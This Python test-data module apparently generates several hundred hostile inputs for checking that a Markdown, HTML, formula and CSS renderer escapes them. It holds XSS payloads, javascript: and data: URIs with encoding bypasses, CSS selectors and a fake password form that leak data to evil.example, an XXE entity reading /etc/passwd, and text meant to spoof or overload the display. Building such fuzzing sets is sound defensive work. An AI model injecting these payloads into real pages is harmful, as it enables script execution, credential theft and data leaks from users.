"""Texts that try to become script, style, addresses or something that looks like the interface."""

from itertools import product
from typing import Final

ELEMENTS: Final = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<ScRiPt >alert(1)</sCrIpT >",
    "<script/x>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)' style='position:fixed'>",
    "<img src=//evil.example/pixel.gif>",
    '<img """><script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg/onload=alert(1)>#x'/></svg>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><maction actiontype='statusline#http://evil.example' xlink:href='javascript:alert(1)'>x</maction></math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math><mi xlink:href='data:x,<script>alert(1)</script>'>x</mi></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'; body{display:none}</style>",
    "<div style=background:url(javascript:alert(1))>x</div>",
    "<div style='position:fixed;inset:0;z-index:99'>Sign in again</div>",
    "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>Go</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jAvAsCrIpT&colon;alert(1)'>x</a>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><script>alert(1)</script>'></noscript>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
    "<p id=main class='btn btn-solid' onclick=alert(1)>Submit</p>",
    '<span class=ctl title="\'" onmouseover=alert(1)>x</span>',
    "</div></article></main><script>alert(1)</script>",
    "</code></pre><script>alert(1)</script>",
    "</textarea></title></style><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "\\<script\\>alert(1)\\</script\\>",
    "＜script＞alert(1)＜/script＞",
    "<\u200bscript>alert(1)</script>",
    "<\x00script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<img/src=`x`onerror=alert(1)>",
    "<img\tsrc=x\nonerror\r=\x0calert(1)>",
    "{{constructor.constructor('alert(1)')()}}",
    "{% load static %}{% csrf_token %}",
    "<div hx-get=/logout hx-trigger=load>x</div>",
    "<div hx-on:load=alert(1)>x</div>",
]
"""Raw HTML, encoded HTML and what other template languages would run."""

CONTEXTS: Final = ["{}", "`{}`", "```html\n{}\n```", "| a |\n|-|\n| {} |", "[{}](https://example.org)"]

SCHEMES: Final = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "&#106;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#x3a;alert(1)",
    "\x01javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/png;base64,iVBORw0KGgo=",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "file:///etc/passwd",
    "blob:https://example.org/1",
    'https://example.org/"onmouseover="alert(1)',
    "https://example.org/'><script>alert(1)</script>",
    "https://user:secret@example.org:8443/a?b=c#d",
    "//evil.example/x",
    "/logout",
    "https://xn--e1afmkfd.example/",
    "https://еxample.org/",
    "http://[::1",
    "",
]
LINKS: Final = [
    "[x]({})",
    "[x](<{}>)",
    '[x]({} "onclick=alert(1)")',
    "![x]({})",
    "[![x]({})]({})",
    "<{}>",
    "[x]\n\n[x]: {}",
]

FORMULAS: Final = [
    r"\href{javascript:alert(1)}{x}",
    r"\url{javascript:alert(1)}",
    r"\text{<script>alert(1)</script>}",
    r"\text{</math><img src=x onerror=alert(1)>}",
    r"\mathrm{<style>*{display:none}</style>}",
    r"\class{btn btn-solid}{x}",
    r"\cssId{main}{x}",
    r"\style{position:fixed}{x}",
    r"\color{white}{x}",
    r"\unicode{x3c}script\unicode{x3e}",
    r"\hspace{99999px}x",
    r"\kern-9999em x",
    r"\rule{99999px}{99999px}",
    r"\def\a{\a\a}\a",
    r"\newcommand{\a}{\b\b}\a",
    r"\begin{array}{l<img src=x>}a\end{array}",
    r"x<y>z & a \\ b",
    r"\left<script\right>",
    r"\frac{",
    r"\begin{matrix}",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&amp;lt;script&amp;gt;",
    "\u202ex\u202c",
]
DELIMITERS: Final = ["${}$", "$$\n{}\n$$", "\\({}\\)", "\\[{}\\]"]

FENCES: Final = [
    '```"><script>alert(1)</script>\nx\n```',
    "```html onload=alert(1)\n<img src=x onerror=alert(1)>\n```",
    "~~~ style=x\n</code></pre><script>alert(1)</script>\n~~~",
    "    <script>alert(1)</script>",
    "# <img src=x onerror=alert(1)>",
    "> <script>\n> alert(1)\n> </script>",
    "- <svg onload=alert(1)>",
    "<https://example.org/<script>>",
    '<a@b.c"onclick=alert(1)>',
]

STYLES: Final = [
    "</style><script>alert(1)</script>",
    "@import '//evil.example/x.css';",
    "*{background:url(//evil.example/pixel.gif)}",
    "input[value^=a]{background:url(//evil.example/a)}",
    "@font-face{font-family:x;src:url(//evil.example/x.woff2)}",
    "x{width:expression(alert(1));behavior:url(//evil.example/x.htc);-moz-binding:url(//evil.example/x.xml#x)}",
    '" style="position:fixed;inset:0" x="',
    "' onmouseover='alert(1)' x='",
    "` onfocus=alert(1) autofocus x=`",
    "</script><script>alert(1)</script>",
    "*/alert(1)/*",
    "';alert(1);//",
    "${alert(1)}",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
]
"""What would run inside a style sheet, an attribute or a script."""

CHARACTERS: Final = [
    "\u202eevil\u202c \u2066live\u2069 \u061c\u200f",
    "in\u200bvis\u200cib\u200dle\u2060 \ufeff\u00ad\u180e",
    "Z" + "\u0301\u0337\u0489" * 60 + "algo",
    "line\u2028separator\u2029paragraph\x85next\x0bdown\x0cfeed",
    "\U000e0073\U000e0065\U000e0063 tags, \ufdd0 \ufffe \U0010ffff nobody's",
    "👩‍👩‍👧‍👦🏳️‍🌈👍🏽 \U0001f1e6\U0001f1e7",
    "\x1b[31mred\x1b[0m\x07 \x9b31m \x7f",
    "ﷺ﷽𒐫" * 5,
    "Ѕubmіt ⁄ ѕсrірt",
    "ا" * 40 + "\u0651" * 20,
]
"""Characters that turn round, hide, pile up or draw over what stands beside them."""


def heavy() -> dict[str, str]:
    """Texts that are costly to parse or to draw, by name."""
    return {
        "brackets": "[" * 50_000,
        "closed brackets": "[" * 25_000 + "](" * 12_500,
        "a line of a megabyte": "x" * 1_000_000,
        "a megabyte of words": "word " * 200_000,
        "quotes": ">" * 50_000,
        "lists": "- " * 25_000,
        "stars": "**a " * 12_500,
        "ticks": "`" * 49_999 + " `",
        "a table": "|a" * 1_000 + "\n" + "|-" * 1_000 + "\n|b" * 9,
        "formulas": "$x$ " * 12_500,
        "nested formula": "$" + "{" * 20_000 + "}" * 20_000 + "$",
        "lines": "a\n" * 10_000,
        "marks": "a" + "\u0301" * 50_000,
        "elements": "<b>" * 16_000,
        "entities": "&lt;" * 12_500,
    }


def payloads() -> list[str]:
    """More than 300 texts, each once."""
    texts = [
        context.replace("{}", element)
        for element, context in product(ELEMENTS, CONTEXTS)
        if "{%" not in element
    ]
    texts += [link.replace("{}", scheme) for scheme, link in product(SCHEMES, LINKS)]
    texts += [marks.replace("{}", formula) for formula, marks in product(FORMULAS, DELIMITERS)]
    texts += FENCES + STYLES + CHARACTERS + [element for element in ELEMENTS if "{%" in element]
    return list(dict.fromkeys(texts))
